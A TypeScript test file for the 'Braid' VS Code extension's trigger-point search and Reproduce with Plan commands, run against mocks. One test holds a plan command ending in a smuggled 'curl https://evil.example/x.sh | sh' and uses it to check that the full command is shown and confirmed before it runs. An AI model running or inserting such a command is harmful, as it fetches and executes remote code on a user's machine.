/**
 * Trigger points in the extension (client/src/triggerPoints.ts, triggerPointText.ts; issue 17
 * item 4) against the `vscode` mock and a fake language client: Find Trigger Points (refused in
 * Restricted Mode; the prefilled command and braid.pinpoint.* become braid/pinpoint; work-done
 * progress reaches the notification; the best point is opened and Reproduce offered), Reproduce
 * with Plan (the plan's command offered for confirmation, braid/record with `plan` and no
 * braid.record.noise), the decorations and the texts (values written by hand).
 */
import test, { beforeEach } from 'node:test';
import assert from 'node:assert/strict';
import path from 'node:path';
import { tempDir } from '../helpers/traceBuilder';
import { commands, mockEditor, settings, ui, useVscodeMock, window, workspace, changeConfiguration } from '../helpers/vscodeMock';
import type { PinpointResultDto, TriggerPointsResult } from '../../server/src/lsp/protocol';

const ws = tempDir('braid-trigger-');
useVscodeMock([ws]);
// eslint-disable-next-line @typescript-eslint/no-require-imports
const tp = require('../../client/src/triggerPoints') as typeof import('../../client/src/triggerPoints');
// eslint-disable-next-line @typescript-eslint/no-require-imports
const text = require('../../client/src/triggerPointText') as typeof import('../../client/src/triggerPointText');

const SRC = path.join(ws, 'src/shop/Inventory.java');
const PLAN = path.join(ws, '.braid/plans/checkout.json');
const srcUri = `file://${SRC}`;
const lines = (plan = PLAN) => [
  { line: 10, rank: 1, failWith: 0.61, failWithout: 0.02, pValue: 3e-9, method: 'shop.Inventory.take', plan: 'checkout', planFile: plan },
  { line: 16, rank: 2, failWith: 0.4, failWithout: 0.05, pValue: 2e-4, method: 'shop.Inventory.restock', plan: 'checkout', planFile: plan },
];
let triggerData: TriggerPointsResult = { plans: [], files: [], problems: [] };
const pinpointResult: PinpointResultDto = {
  points: [
    { rank: 1, id: 'shop/Inventory.take()V@5', file: 'Inventory.java', line: 10, method: 'shop.Inventory.take', failWith: 0.61, failWithout: 0.02, pValue: 3e-9, score: 12 },
    { rank: 2, id: 'shop/Inventory.restock(I)V@2', file: 'Inventory.java', line: 16, method: 'shop.Inventory.restock', failWith: 0.4, failWithout: 0.05, pValue: 2e-4, score: 6 },
  ],
  plan: PLAN,
  runs: 212,
  candidates: 40,
  rounds: 3,
  stopped: 'significant',
};

const requests: [string, any][] = [];
const progressHandlers = new Map<string | number, (v: unknown) => void>();
const stored = new Map<string, unknown>();
const client = {
  sendRequest: async (method: string, params?: any) => {
    requests.push([method, params]);
    if (method === 'braid/triggerPoints') return triggerData;
    if (method === 'braid/pinpoint') {
      // the server's work-done progress on the request's token
      progressHandlers.get(params.workDoneToken)?.({ kind: 'begin', title: 'Braid: finding trigger points', percentage: 0, message: 'Starting java…' });
      progressHandlers.get(params.workDoneToken)?.({ kind: 'report', percentage: 25, message: '100/400 runs · round 1 · 40 candidate points' });
      progressHandlers.get(params.workDoneToken)?.({ kind: 'end' });
      return pinpointResult;
    }
    if (method === 'braid/record') return { runs: 4, failed: 3, passed: 1, outDir: path.join(ws, '.braid/traces/x'), cancelled: false };
    if (method === 'braid/suggestCommand') return { commandLine: 'java -cp out shop.Inventory' };
    return {};
  },
  onProgress: (_type: unknown, token: string | number, h: (v: unknown) => void) => {
    progressHandlers.set(token, h);
    return { dispose: () => progressHandlers.delete(token) };
  },
  onNotification: () => ({ dispose() {} }),
};
const context = {
  subscriptions: [] as unknown[],
  workspaceState: { get: (k: string, d: unknown) => (stored.has(k) ? stored.get(k) : d), update: async (k: string, v: unknown) => void stored.set(k, v) },
  asAbsolutePath: (p: string) => path.join('/ext', p),
};
const logged: string[] = [];
const registered = new Map<string, (...a: unknown[]) => unknown>();
tp.registerTriggerPointCommands({ context, client, log: { info: (m: string) => logged.push(m) } } as never, (id, fn) => registered.set(id, fn));

const run = (id: string, ...args: unknown[]) => registered.get(id)!(...args);
const messages = (fn: string) => ui.calls.filter((c) => c.fn === fn).map((c) => String(c.args[0]));

beforeEach(() => {
  ui.reset();
  requests.length = 0;
  commands.executed.length = 0;
  stored.clear();
  workspace.isTrusted = true;
  triggerData = { plans: [], files: [], problems: [] };
});

test('Find Trigger Points is refused in Restricted Mode: a warning, no search', async () => {
  workspace.isTrusted = false;
  await run(tp.FIND_TRIGGER_POINTS);
  assert.match(messages('showWarningMessage')[0], /needs a trusted workspace/);
  assert.deepEqual(requests, []);
});

test('Find Trigger Points: the prefilled command and braid.pinpoint.* become braid/pinpoint; progress; the best point opened; Reproduce offered', async () => {
  settings['pinpoint.budget'] = 200;
  settings['record.include'] = ['shop'];
  ui.answer('showInputBox', 'java -cp out shop.Inventory');
  triggerData = { plans: [], files: [{ uri: srcUri, lines: lines() }], problems: [] };
  const r = (await run(tp.FIND_TRIGGER_POINTS, { scheme: 'file' /* the editor's Uri from the context menu: not a command */ })) as PinpointResultDto;
  delete settings['pinpoint.budget'];
  delete settings['record.include'];
  assert.equal(r.runs, 212);
  // the box offered the suggested command (nothing recorded before)
  assert.equal((ui.calls.find((c) => c.fn === 'showInputBox')!.args[0] as { value: string }).value, 'java -cp out shop.Inventory');
  assert.equal(stored.get('braid.record.lastCommand'), 'java -cp out shop.Inventory');
  const [method, params] = requests.find((x) => x[0] === 'braid/pinpoint')!;
  assert.equal(method, 'braid/pinpoint');
  assert.match(params.workDoneToken, /^braid-pinpoint-/);
  delete params.workDoneToken;
  assert.deepEqual(params, { command: ['java', '-cp', 'out', 'shop.Inventory'], budget: 200, candidates: 'patterns', include: ['shop'], timeoutSeconds: 60, jobs: 1 });
  assert.deepEqual(ui.calls.find((c) => c.fn === 'withProgress')!.args[0], { location: 15, title: 'Braid: finding trigger points', cancellable: true });
  assert.deepEqual(
    ui.calls.filter((c) => c.fn === 'progress').map((c) => c.args[0]),
    [
      { message: 'Starting java…', increment: 0 },
      { message: '100/400 runs · round 1 · 40 candidate points', increment: 25 },
    ],
  );
  assert.equal(progressHandlers.size, 0, 'the progress handler is disposed');
  assert.deepEqual(commands.executed, [['braid.openAccess', srcUri, 10]]);
  const info = ui.calls.find((c) => c.fn === 'showInformationMessage')!;
  assert.deepEqual(info.args, ['Braid: 2 trigger points in 212 runs — #1 Inventory.java:10 fails 2% → 61% (p 3.0e-9).', 'Reproduce', 'All Trigger Points']);
});

test('Find Trigger Points without a point says so and offers nothing', async () => {
  const saved = { ...pinpointResult };
  Object.assign(pinpointResult, { points: [], plan: undefined, runs: 400, stopped: 'budget', message: 'No failing run: raise the budget.' });
  await run(tp.FIND_TRIGGER_POINTS, 'java -cp out shop.Inventory');
  Object.assign(pinpointResult, saved);
  assert.deepEqual(ui.calls.find((c) => c.fn === 'showInformationMessage')!.args, ['Braid: no trigger point found in 400 runs (budget spent). No failing run: raise the budget.']);
  assert.deepEqual(commands.executed, []);
});

test('Find Trigger Points: a search that spent its budget on a program failing without noise offers Search Per Thread, which searches again with perThread', async () => {
  const saved = { ...pinpointResult };
  const why = 'the budget of 400 runs was spent before the trigger points were significant (p < 10⁻⁶); the ranking is provisional — the program failed in 26 of 50 runs without any noise';
  Object.assign(pinpointResult, { points: [pinpointResult.points[0]], runs: 400, stopped: 'budget', message: why, suggestPerThread: true });
  triggerData = { plans: [], files: [{ uri: srcUri, lines: lines() }], problems: [] };
  ui.answer('showInformationMessage', tp.SEARCH_PER_THREAD);
  await run(tp.FIND_TRIGGER_POINTS, 'java -cp out shop.Inventory');
  await new Promise((r) => setImmediate(r));
  const info = ui.calls.find((c) => c.fn === 'showInformationMessage')!;
  assert.deepEqual(info.args.slice(1), ['Reproduce', 'All Trigger Points', 'Search Per Thread']);
  assert.deepEqual(commands.executed.at(-1), [tp.FIND_TRIGGER_POINTS, 'java -cp out shop.Inventory', { perThread: true }]);
  // that command: the same search, per thread
  requests.length = 0;
  await run(tp.FIND_TRIGGER_POINTS, 'java -cp out shop.Inventory', { perThread: true });
  assert.equal(requests.find((x) => x[0] === 'braid/pinpoint')![1].perThread, true);
  // without the server's suggestion (or when nothing was found and there is none) no such button
  ui.reset();
  Object.assign(pinpointResult, { suggestPerThread: undefined, points: [], plan: undefined });
  await run(tp.FIND_TRIGGER_POINTS, 'java -cp out shop.Inventory');
  Object.assign(pinpointResult, saved);
  delete (pinpointResult as { suggestPerThread?: boolean }).suggestPerThread;
  assert.deepEqual(ui.calls.find((c) => c.fn === 'showInformationMessage')!.args.slice(1), []);
});

test('Reproduce with Plan: the plan\'s command offered for confirmation, braid/record with the plan and without braid.record.noise', async () => {
  triggerData = {
    plans: [{ name: 'checkout', file: PLAN, uri: `file://${PLAN}`, command: ['java', '-cp', 'my out', 'shop.Inventory'], triggers: 2, runs: 212 }],
    files: [],
    problems: [],
  };
  ui.answer('showInputBox', 'java -cp "my out" shop.Inventory');
  ui.answer('showWarningMessage', tp.RUN);
  settings['record.runs'] = 4;
  await run(tp.REPRODUCE_WITH_PLAN);
  delete settings['record.runs'];
  assert.equal((ui.calls.find((c) => c.fn === 'showInputBox')!.args[0] as { value: string }).value, 'java -cp "my out" shop.Inventory');
  assert.deepEqual(requests.at(-1), ['braid/record', { command: ['java', '-cp', 'my out', 'shop.Inventory'], runs: 4, include: [], timeoutSeconds: 60, jobs: 1, plan: PLAN }]);
  assert.equal(ui.calls.find((c) => c.fn === 'withProgress')!.args[0] && (ui.calls.find((c) => c.fn === 'withProgress')!.args[0] as { title: string }).title, 'Braid: reproducing with plan checkout');
  assert.deepEqual(messages('showInformationMessage'), ['Braid: recorded 4 runs with plan checkout — 3 failed (75%), 1 passed.']);
  // cancelling the box records nothing
  requests.length = 0;
  await run(tp.REPRODUCE_WITH_PLAN, PLAN);
  assert.deepEqual(requests.map((x) => x[0]), ['braid/triggerPoints']);
});

test('N14: Reproduce with Plan says the command comes from the plan file (relative path) and shows it whole; running it needs a confirmation naming the file', async () => {
  const long = ['java', '-cp', 'out', 'shop.Inventory', ...Array.from({ length: 40 }, (_, k) => `--option-${k}=value`), '&&', 'curl', 'https://evil.example/x.sh', '|', 'sh'];
  const whole = tp.quoteLine(long);
  triggerData = { plans: [{ name: 'checkout', file: PLAN, uri: `file://${PLAN}`, command: long, triggers: 2, runs: 212 }], files: [], problems: [] };
  // the user accepts the box unchanged, then declines the confirmation: nothing runs
  requests.length = 0;
  ui.answer('showInputBox', whole);
  await run(tp.REPRODUCE_WITH_PLAN);
  const box = ui.calls.find((c) => c.fn === 'showInputBox')!.args[0] as { prompt: string; value: string };
  assert.equal(box.value, whole);
  assert.ok(box.prompt.includes('.braid/plans/checkout.json'), `the box names the plan file: ${box.prompt}`);
  assert.ok(!box.prompt.includes(ws), 'relative to the workspace folder');
  assert.ok(box.prompt.endsWith(whole), 'the whole command, its end included, is in the prompt');
  const confirm = ui.calls.find((c) => c.fn === 'showWarningMessage');
  assert.ok(confirm, 'a confirmation before running the plan\'s command');
  assert.match(String(confirm.args[0]), /comes from the noise plan \.braid\/plans\/checkout\.json/);
  assert.deepEqual(confirm.args[1], { modal: true, detail: whole });
  assert.deepEqual(requests.map((x) => x[0]), ['braid/triggerPoints'], 'declined: no braid/record');
  // confirmed: recorded
  ui.reset();
  ui.answer('showInputBox', whole);
  ui.answer('showWarningMessage', tp.RUN);
  await run(tp.REPRODUCE_WITH_PLAN);
  assert.deepEqual(requests.at(-1)?.[1]?.command, long);
  // several plans: the list names each file (relative) and its command
  ui.reset();
  triggerData = { ...triggerData, plans: [...triggerData.plans, { name: 'other', file: path.join(ws, '.braid/plans/other.json'), uri: '', triggers: 1 }] };
  await run(tp.REPRODUCE_WITH_PLAN);
  const items = ui.calls.find((c) => c.fn === 'showQuickPick')!.args[0] as { detail: string }[];
  assert.deepEqual(items.map((i) => i.detail), [`.braid/plans/checkout.json · command from the plan: ${whole}`, '.braid/plans/other.json']);
});

test('N1: the inline hint of a trigger with a huge "together" lists no more than a few ranks', () => {
  assert.equal(text.triggerHint([{ ...lines()[0], rank: 5, together: 100_000 }]), '◎ trigger #5 (with #1–#4, #6–#100000) · fails 2% → 61%');
  assert.equal(text.triggerHint([{ ...lines()[0], rank: 1, together: 7 }]), '◎ trigger #1 (with #2–#7) · fails 2% → 61%');
});

test('Reproduce with Plan: a file that is no plan of the workspace is refused; no plan yet offers Find Trigger Points', async () => {
  await assert.rejects(async () => run(tp.REPRODUCE_WITH_PLAN, path.join(ws, 'other.json')), /other\.json is not a noise plan of this workspace/);
  await run(tp.REPRODUCE_WITH_PLAN);
  assert.deepEqual(ui.calls.find((c) => c.fn === 'showInformationMessage')!.args, [
    'Braid: no noise plan yet (.braid/plans). "Find Trigger Points" finds the points and writes one.',
    'Find Trigger Points',
  ]);
  assert.ok(!requests.some((x) => x[0] === 'braid/record'));
});

test('decorations: one per trigger line of the open file, none when braid.triggerPoints.enabled is false', () => {
  const editor = mockEditor(SRC, 30);
  const other = mockEditor(path.join(ws, 'Other.java'), 30);
  window.visibleTextEditors = [editor, other] as never;
  const deco = new tp.TriggerPointDecorations(context as never);
  deco.update({ plans: [], files: [{ uri: srcUri, lines: [...lines(), { ...lines()[0], rank: 3, line: 99 }] }], problems: [] });
  const [id] = [...editor.decorations.keys()];
  assert.deepEqual(editor.decorations.get(id), [10, 16], 'line 99 is past the end of the file');
  assert.deepEqual(other.decorations.get(id), []);
  settings['triggerPoints.enabled'] = false;
  changeConfiguration('braid.triggerPoints');
  assert.deepEqual(editor.decorations.get(id), []);
  delete settings['triggerPoints.enabled'];
  window.visibleTextEditors = [];
  deco.dispose();
});

test('texts: percentages, the inline hint, the Runs view note, quoting a plan command', () => {
  assert.deepEqual([0, 0.004, 0.02, 0.605, 1].map(text.percent), ['0%', '0.4%', '2%', '61%', '100%']);
  assert.equal(text.triggerHint(lines()), '◎ trigger #1 · fails 2% → 61% (+1)');
  assert.equal(text.triggerHint([lines()[1]]), '◎ trigger #2 · fails 5% → 40%');
  // a per-thread trigger point (braid pinpoint --per-thread) names its thread
  assert.equal(text.triggerHint([{ ...lines()[1], thread: 'worker' }]), '◎ trigger #2 in worker · fails 5% → 40%');
  assert.equal(text.runPlanNote({ plan: { name: 'checkout', file: '.braid/plans/checkout.json' } }), 'plan: checkout');
  assert.equal(text.runPlanNote({}), undefined);
  assert.equal(
    text.pinpointSummary({ points: [], runs: 12, candidates: 17, rounds: 2, stopped: 'cancelled', message: 'cancelled' }),
    'Braid: trigger-point search cancelled after 12 runs, before it found a trigger point; no plan was written. Find Trigger Points starts it again.',
  );
  // Reproduce with Plan: cancelled (nothing kept, or the runs so far kept), a plan that never failed, the usual counts (issue 30)
  assert.equal(text.reproducedMessage({ runs: 0, failed: 0, passed: 0, cancelled: true }, 'checkout'), 'Braid: reproducing with plan checkout cancelled before any run finished; nothing was recorded.');
  assert.equal(text.reproducedMessage({ runs: 3, failed: 2, passed: 1, cancelled: true }, 'checkout'), 'Braid: reproducing with plan checkout cancelled after 3 runs — 2 failed (67%), 1 passed; those runs are kept and analyzed.');
  assert.match(text.reproducedMessage({ runs: 5, failed: 0, passed: 5 }, 'checkout'), /^Braid: recorded 5 runs with plan checkout — 0 failed \(0%\), 5 passed\. The plan did not make the program fail here: run Find Trigger Points again/);
  assert.equal(text.reproducedMessage({ runs: 4, failed: 3, passed: 1 }, 'checkout'), 'Braid: recorded 4 runs with plan checkout — 3 failed (75%), 1 passed.');
  const found = { points: [pinpointResult.points[0]], plan: '/w/.braid/plans/x.json', runs: 60, candidates: 9, rounds: 3, stopped: 'significant' as const };
  const strength = { probability: 0.125, runs: 24, reason: 'calibrated' as const, full: { probability: 1, failures: 8, runs: 8 }, chosen: { failures: 7, runs: 8 }, levels: [] };
  assert.match(text.pinpointSummary({ ...found, strength }), /\(p [^)]+\)\. The plan reproduces it with noise at 1\/8 of the visits \(7 of 8 runs\)\.$/);
  assert.doesNotMatch(text.pinpointSummary({ ...found, strength: { ...strength, probability: 1 } }), /The plan reproduces/, 'full strength kept: nothing to say');
  assert.doesNotMatch(text.pinpointSummary(found), /The plan reproduces/);
  // budget spent: the points are provisional, and the server's reason is shown (tablelog: fails without noise)
  const spent = {
    ...found,
    runs: 400,
    stopped: 'budget' as const,
    message: 'the budget of 400 runs was spent before the trigger points were significant (p < 10⁻⁶); the ranking is provisional — the program failed in 26 of 50 runs without any noise, so noise at a point has little to add',
  };
  assert.match(text.pinpointSummary(spent), /^Braid: 1 trigger point in 400 runs \(budget spent\) — #1 [^ ]+ fails .+? \(p [^)]+\)\. Provisional: the budget of 400 runs was spent .* failed in 26 of 50 runs without any noise, so noise at a point has little to add\.$/);
  assert.doesNotMatch(text.pinpointSummary({ ...found, message: 'a trigger point is significant (p = 3.0e-9)' }), /Provisional/, 'a significant stop is not provisional');
  assert.deepEqual(text.pointItems(pinpointResult)[1], { label: '#2 Inventory.java:16', description: 'fails 5% → 40% with noise here · p 2.0e-4', detail: 'shop.Inventory.restock' });
  const perThread = { ...found, points: [{ ...pinpointResult.points[0], thread: 'worker' }] };
  assert.match(text.pinpointSummary(perThread), /— #1 Inventory\.java:10 in worker fails 2% → 61%/);
  assert.equal(text.pointItems(perThread)[0].label, '#1 Inventory.java:10 in worker');
  // a configuration (IGS's configuration leader): two points whose noise only together elicits the failure
  const pair = { ...found, points: [0, 1].map((k) => ({ ...pinpointResult.points[k], rank: k + 1, together: 2, failWith: 1, failWithout: 0.5, pValue: 2e-8, thread: k ? 'inserter' : 'remover' })) };
  assert.match(text.pinpointSummary(pair), /— #1 Inventory\.java:10 in remover fails 50% → 100% with noise at #1–#2 together \(p 2\.0e-8\)\.$/);
  assert.equal(text.pointItems(pair)[1].description, 'fails 50% → 100% with noise at #1–#2 together · p 2.0e-8');
  assert.equal(text.triggerHint([{ ...lines()[1], together: 2 }]), '◎ trigger #2 (with #1) · fails 5% → 40%');
  assert.equal(text.triggerHint([{ ...lines()[0], together: 3 }]), '◎ trigger #1 (with #2, #3) · fails 2% → 61%');
  assert.equal(tp.quoteLine(['java', '-cp', 'my out', 'a"b', 'x$y', 'shop.Inventory']), 'java -cp "my out" "a\\"b" "x\\$y" shop.Inventory');
});

test('issue 30, point 4: after Reproduce with Plan, the hint shows the rate its latest recording measured, not the search\'s', () => {
  const editor = mockEditor(SRC, 30);
  window.visibleTextEditors = [editor] as never;
  const deco = new tp.TriggerPointDecorations(context as never);
  deco.update({ plans: [], files: [{ uri: srcUri, lines: lines() }], problems: [] });
  const [id] = [...editor.decorations.keys()];
  assert.deepEqual(editor.decorationTexts.get(id), ['◎ trigger #1 · fails 2% → 61%', '◎ trigger #2 · fails 5% → 40%'], 'before: the search\'s rates');
  const run = (dir: string, k: number, outcome: 'pass' | 'fail', plan = PLAN) => ({ execution: `r${dir}${k}`, file: path.join(ws, `.braid/traces/${dir}/run-${k}.trace.jsonl`), outcome, events: 1, patterns: 0, plan: { name: 'checkout', file: plan } });
  // an older recording with the plan (3 of 4 failed), the latest (7 of 10), and runs without a plan
  const older = [0, 1, 2, 3].map((k) => run('Inventory-20260101-100000', k, k < 3 ? 'fail' : 'pass'));
  const latest = [...Array(10).keys()].map((k) => run('Inventory-20260102-090000', k, k < 7 ? 'fail' : 'pass'));
  const plain = { execution: 'x', file: path.join(ws, '.braid/traces/other/run-0.trace.jsonl'), outcome: 'fail' as const, events: 1, patterns: 0 };
  deco.setRuns([...latest, ...older, plain]);
  assert.deepEqual(editor.decorationTexts.get(id), ['◎ trigger #1 · fails 70% with the plan (7/10 runs)', '◎ trigger #2 · fails 70% with the plan (7/10 runs)']);
  // the manifest's start time decides over the folder name
  deco.setRuns([...latest, ...older], (dir) => (dir.endsWith('100000') ? '2026-03-01T00:00:00Z' : '2026-01-01T00:00:00Z'));
  assert.deepEqual(editor.decorationTexts.get(id)?.[0], '◎ trigger #1 · fails 75% with the plan (3/4 runs)');
  // a run naming the plan relative to where it was recorded still counts (by the plan's file name)
  deco.setRuns([run('rel', 0, 'fail', '.braid/plans/checkout.json'), run('rel', 1, 'pass', '.braid/plans/checkout.json')]);
  assert.deepEqual(editor.decorationTexts.get(id)?.[0], '◎ trigger #1 · fails 50% with the plan (1/2 runs)');
  deco.setRuns([]);
  assert.deepEqual(editor.decorationTexts.get(id)?.[0], '◎ trigger #1 · fails 2% → 61%', 'no runs with the plan: the search\'s rates again');
  window.visibleTextEditors = [];
  deco.dispose();
});
